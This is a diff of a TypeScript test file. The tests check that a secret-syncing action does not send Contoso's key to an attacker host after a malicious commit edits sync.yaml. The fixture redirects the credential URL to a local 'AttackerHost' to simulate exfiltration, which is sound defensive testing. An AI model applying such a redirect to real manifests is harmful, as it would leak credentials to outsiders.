@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type ActionEvent, ActionRig, type ActionSetup } from '../support/action-rig.ts';
-import { Thief } from '../support/race.ts';
+import { AttackerHost } from '../support/attacker-host.ts';
 import { Rig } from '../support/rig.ts';
 import { fetchAction, recordAction, storyExport, webhook } from '../support/stories.ts';
 import { manifestFor, smallWorld } from '../support/worlds.ts';
@@ -49,15 +49,15 @@ const plan: ActionSetup = { inputs: { command: 'plan' } };
 
 describe('a manifest that sends Contoso’s key to another host, under', () => {
   let action: ActionRig;
-  let thief: Thief;
+  let attacker: AttackerHost;
   let start = '';
   beforeAll(async () => {
     action = await ActionRig.around(smallWorld());
-    thief = await Thief.start();
+    attacker = await AttackerHost.start();
     start = action.head();
     action.rig.write(
       'sync.yaml',
-      action.rig.read('sync.yaml').replace(`${action.rig.url}/contoso`, `http://127.0.0.1:${thief.port}/contoso`),
+      action.rig.read('sync.yaml').replace(`${action.rig.url}/contoso`, `http://127.0.0.1:${attacker.port}/contoso`),
     );
     const evil = action.rig.commit('attack');
     // All that a clone says of itself is on the attacker's side.
@@ -68,14 +68,14 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
   });
   afterAll(async () => {
     await action[Symbol.asyncDispose]();
-    await thief[Symbol.asyncDispose]();
+    await attacker[Symbol.asyncDispose]();
   });
 
   it.each(Object.entries({ ...EVENTS, ...ASTRAY }))(
     '%s is planned without that host, and with the others',
     async (_, event) => {
       const run = await action.run(event(action, start), plan);
-      expect(thief.seen).toEqual([]);
+      expect(attacker.seen).toEqual([]);
       expect(await asked(action)).toEqual(['fabrikam']);
       expect(run).toMatchObject({ code: 0, outputs: { changes: '4' } });
       const marks = action.check.annotations.filter(({ title }) => title?.startsWith('contoso / '));
@@ -96,7 +96,7 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
       expect(run.log).toMatch(/::error::.*(?:only on the head of the default branch "main"|nothing is exported)/);
       expect(await asked(action)).toEqual([]);
     }
-    expect(thief.seen).toEqual([]);
+    expect(attacker.seen).toEqual([]);
   });
 
   it('a dispatch on a branch is a notice and 0 when nobody named the command', async () => {
@@ -104,7 +104,7 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
     expect(run.code).toBe(0);
     expect(run.log).toMatch(/^::notice::Nothing to do: a sync runs only on the head of the default branch "main"/m);
     expect(await asked(action)).toEqual([]);
-    expect(thief.seen).toEqual([]);
+    expect(attacker.seen).toEqual([]);
   });
 
   it.each(['workflow_dispatch', 'schedule'])(
@@ -131,7 +131,7 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
     expect(run).toMatchObject({ code: 1, outputs: { synced: '0', requires_sync: '4' } });
     expect(run.files['status.json']).toContain('"superseded"');
     expect(await asked(action)).toEqual(['fabrikam']);
-    expect(thief.seen).toEqual([]);
+    expect(attacker.seen).toEqual([]);
   });
 
   it.each(['issue_comment', 'repository_dispatch'])('%s, which anybody can set off, asks nobody', async (name) => {
@@ -146,7 +146,7 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
       await action.run(action.pullRequest(base, 'mallory/stories'));
       expect(await asked(action)).toEqual([]);
     }
-    expect(thief.seen).toEqual([]);
+    expect(attacker.seen).toEqual([]);
   });
 
   it('a default branch of another name: that one decides, and what the event calls default does not', async () => {
@@ -164,13 +164,13 @@ describe('a manifest that sends Contoso’s key to another host, under', () => {
       action.github.branches.set('main', start);
       action.github.defaultBranch = 'main';
     }
-    expect(thief.seen).toEqual([]);
+    expect(attacker.seen).toEqual([]);
   });
 
   it('any of them goes to that host once the default branch says so: the tests above could fail', async () => {
     action.github.branches.set('main', action.head());
     await action.run(action.push('refs/heads/feature'), plan);
-    expect(JSON.stringify(thief.seen)).toContain(action.keys().CONTOSO_KEY);
+    expect(JSON.stringify(attacker.seen)).toContain(action.keys().CONTOSO_KEY);
   });
 });
 
